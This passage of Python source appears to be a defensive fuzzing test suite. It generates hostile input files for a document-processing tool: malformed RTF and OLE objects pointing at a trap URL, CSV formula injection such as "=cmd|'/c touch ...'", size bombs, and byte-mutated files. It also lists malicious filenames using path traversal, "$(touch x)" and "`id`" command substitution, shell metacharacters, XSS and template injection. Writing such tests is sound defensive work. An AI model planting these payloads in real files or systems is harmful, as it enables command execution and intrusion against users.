        yield Hostile(
            "旧格式:全是零",
            f"零{name}",
            lambda s=stream_name: ole + bytes(600) + s.encode("utf-16-le") + b"\0\0" + bytes(9000),
        )
    rtf = {
        "对象": "{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000}}", "外部的图": f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{traps.url}/rtf"}}}}',
        "太深": "{" * 100_000, "长度": "\\bin2147483647 x", "模板": f"{{\\*\\template {traps.url}/t.dot}}",
    }  # fmt: skip
    for what, body_text in rtf.items():
        yield Hostile(f"RTF:{what}", f"{what}.rtf", lambda b=body_text: ("{\\rtf1 x " + b + "}").encode())


def _tables(traps: Traps) -> Iterator[Hostile]:
    for what, text in {
        "公式": f"标题,日期\n=cmd|'/c touch {traps.touched}'!A1,2026-01-01\n@SUM(1),+1\n", "引号": 'a,"b\n' * 50_000, "一行太长": "a," * 3_000_000,
        "零字节": "标题\0,日期\n1,2\n", "倒写": "标题,日期\n\u202e函号一〇二,2026-01-01\n", "空格": " " * 10_000_000, "行太多": "a,b\n" * 1_500_000,
    }.items():  # fmt: skip
        for ending in ("csv", "txt"):
            yield Hostile(f"表:{what}", f"{what}.{ending}", lambda t=text: t.encode())


NAMES = (
    "函\u202efdp.exe.pdf", "../../../../tmp/escaped-shenguan.pdf", "..\\..\\boot.pdf", "/tmp/escaped-shenguan.pdf", "CON.pdf", "a.pdf.", " .pdf", "-rf.pdf",
    "$(touch x).pdf", "`id`.pdf", "a;b|c&d.pdf", "a\nb.pdf", "a\tb.pdf", "a\0b.pdf", "\u200b\u200b.pdf", "Z\u0335\u0321\u0322" * 40 + ".pdf", "函" * 300 + ".pdf",
    "关于\u2215etc\u2215passwd.pdf", "ａ／ｂ.pdf", "<img src=x>.pdf", "{{ 7*7 }}.pdf", "%2e%2e%2fa.pdf", "a.pdf::$DATA", "\ufeff函.pdf", "e\u0301.pdf",
)  # fmt: skip


def _names(_traps: Traps) -> Iterator[Hostile]:
    for name in NAMES:
        yield Hostile("名称", name, pdf_file)


def _mutants() -> Iterator[Hostile]:
    """Sound files with some bytes changed, cut out, or doubled."""
    sound: dict[str, Make] = {
        **{kind: make for kind, (make, _) in PACKAGES.items()},
        "pdf": pdf_file, "eml": lambda: mail_file({"a.txt": b"x"}), "png": lambda: picture_file(["字"]),
    }  # fmt: skip
    for kind, make in sound.items():
        for seed in range(8):
            yield Hostile(
                "改坏的",
                f"改坏{seed}.{kind}",
                lambda m=make, k=kind, s=seed: _mutated(m(), random.Random(f"{k}{s}")),
            )


def _mutated(data: bytes, chance: random.Random) -> bytes:
    made = bytearray(data)
    for _ in range(chance.choice((1, 5, 40))):
        place = chance.randrange(len(made))
        what = chance.randrange(3)
        if what == 0:
            made[place] = chance.randrange(256)
        elif what == 1:
            del made[place : place + chance.randrange(1, 30)]
        else:
            made[place:place] = made[place : place + chance.randrange(1, 200)]
    return bytes(made)
